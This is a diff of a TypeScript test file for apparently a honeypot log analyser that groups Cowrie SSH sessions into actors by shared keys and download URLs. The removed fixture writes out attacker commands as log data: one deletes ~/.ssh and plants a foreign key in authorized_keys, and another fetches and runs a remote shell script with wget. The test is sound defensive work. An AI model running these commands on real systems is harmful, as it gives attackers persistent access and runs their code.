@@ -2,40 +2,13 @@ import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { openSystem, type System } from '../../test/setup/commands.ts';
-
-const key = `AAAA${'B3NzaC1yc2EAAAADAQABAAABAQ'.repeat(4)}`;
-
-/** Sessions of Cowrie's JSON in which two addresses leave one key. */
-function log(sources: readonly string[]): string {
-  const lines: object[] = [];
-  for (const [n, src] of sources.entries()) {
-    const head = (ms: number) => ({
-      timestamp: new Date(Date.UTC(2025, 1, 12, 3, n) + ms).toISOString(),
-      src_ip: src,
-      session: `s${n}`,
-      sensor: 'pot',
-      protocol: 'ssh',
-    });
-    lines.push(
-      { eventid: 'cowrie.session.connect', src_port: 4_000, dst_ip: '192.0.2.10', dst_port: 22, ...head(0) },
-      { eventid: 'cowrie.login.success', username: 'root', password: `pw${n}`, ...head(10) },
-      {
-        eventid: 'cowrie.command.input',
-        input: `cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa ${key} mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`,
-        ...head(20),
-      },
-      { eventid: 'cowrie.command.input', input: 'wget http://203.0.113.66/x.sh; sh x.sh', ...head(30) },
-      { eventid: 'cowrie.session.closed', duration: 1, ...head(40) },
-    );
-  }
-  return `${lines.map((line) => JSON.stringify(line)).join('\n')}\n`;
-}
+import { droppers, sharedKey } from '../../test/setup/droppers.ts';
 
 let system: System;
 beforeAll(async () => {
   system = await openSystem();
   const path = join(system.folder, 'two.json');
-  writeFileSync(path, log(['203.0.113.9', '198.51.100.4']));
+  writeFileSync(path, droppers(['203.0.113.9', '198.51.100.4']));
   expect((await system.run('import', path)).err).toBe('2 sessions were looked at, 2 have a label\n');
 });
 afterAll(() => system?.close());
@@ -55,7 +28,7 @@ it('keeps of an import what each session was, and what it gave away', async () =
   const found = await system.pipeline.sessions.indicators();
   expect(found.map(({ type, value, sessions }) => [type, value, sessions]).sort()).toEqual([
     ['ip', '203.0.113.66', 2],
-    ['ssh-key', key, 2],
+    ['ssh-key', sharedKey, 2],
     ['url', 'http://203.0.113.66/x.sh', 2],
   ]);
 });
@@ -64,7 +37,7 @@ it('joins addresses that share a key to one actor, and tells of it once', async 
   const [actor, ...more] = await system.pipeline.sessions.actors({ addresses: 2 });
   expect(more).toEqual([]);
   expect(actor).toMatchObject({ addresses: 2, sessions: 2, labels: { S1: 2 } });
-  expect(actor!.joins[0]).toMatchObject({ by: 'ssh-key', value: key });
+  expect(actor!.joins[0]).toMatchObject({ by: 'ssh-key', value: sharedKey });
   expect((await system.pipeline.sessions.sessions({ actor: actor!.id })).length).toBe(2);
   expect((await system.pipeline.sessions.addresses(actor!.id)).map(({ ip }) => ip)).toEqual([
     '198.51.100.4',
@@ -85,7 +58,7 @@ it('stores nothing twice, whether it is read again or looked at again', async ()
   const before = await kept();
   await system.pipeline.profiles.label(before.sessions[0]!.run);
   const path = join(system.folder, 'again.json');
-  writeFileSync(path, log(['203.0.113.9', '198.51.100.4']));
+  writeFileSync(path, droppers(['203.0.113.9', '198.51.100.4']));
   await system.run('import', '--source', 'two.json', path);
   expect(await kept()).toEqual(before);
 });
@@ -94,7 +67,7 @@ it('says the same of the same events in a system of its own', async () => {
   const other = await openSystem();
   try {
     const path = join(other.folder, 'two.json');
-    writeFileSync(path, log(['203.0.113.9', '198.51.100.4']));
+    writeFileSync(path, droppers(['203.0.113.9', '198.51.100.4']));
     await other.run('import', path);
     const plain = (all: { run: string }[]) => all.map(({ run: _, ...rest }) => rest);
     expect(plain(await other.pipeline.sessions.sessions())).toEqual(
@@ -108,7 +81,7 @@ it('says the same of the same events in a system of its own', async () => {
 it('goes on with an import whose sessions were not looked at', async () => {
   const { pipeline, folder } = system;
   const path = join(folder, 'left.json');
-  writeFileSync(path, log(['192.0.2.77']).replaceAll('"s0"', '"left"'));
+  writeFileSync(path, droppers(['192.0.2.77']).replaceAll('"s0"', '"left"'));
   // As where the program ends between the two.
   for await (const message of pipeline.imports.run({ files: [{ path }], live: false }))
     if (message.type === 'finished') break;
